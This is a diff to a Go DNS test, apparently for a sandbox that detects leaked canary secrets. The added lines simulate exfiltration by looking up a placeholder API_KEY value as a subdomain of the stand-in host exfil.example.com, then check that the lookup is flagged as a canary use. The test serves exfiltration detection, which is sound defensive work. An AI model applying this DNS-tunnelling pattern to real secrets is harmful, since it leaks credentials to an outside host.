@@ -81,11 +81,20 @@ func TestDNS(t *testing.T) {
 			}
 		}
 	}
+	// A placeholder smuggled out in a name is a canary use of its own.
+	ph, _ := Placeholders([]string{"API_KEY"}, "abcd1234")
+	dnsQuery(t, n, n.TrapAddr().String(), ph["API_KEY"]+".exfil.example.com", dnsmessage.TypeA)
 	recs, _ := n.Records()
-	lookups, _, _ := Split(recs, time.Time{}, time.Now().Add(time.Hour))
-	want := []string{"exfil.example.com", "other.example.net", "v6.example.com", "mail.example.com"}
+	lookups, _, uses := Split(recs, time.Time{}, time.Now().Add(time.Hour))
+	want := []string{"exfil.example.com", "other.example.net", "v6.example.com", "mail.example.com", strings.ToLower(ph["API_KEY"]) + ".exfil.example.com"}
 	if !slices.Equal(lookups, want) {
 		t.Errorf("lookups %q, want %q", lookups, want)
+	}
+	if len(uses) != 1 || !strings.EqualFold(uses[0].Name, "API_KEY") || !strings.HasPrefix(uses[0].Where, "dns ") {
+		t.Errorf("canary uses %+v, want API_KEY sent in a DNS name", uses)
+	}
+	if !recs[len(recs)-1].Attempt().Canary {
+		t.Error("the lookup's network attempt does not say it carried a canary")
 	}
 }
 
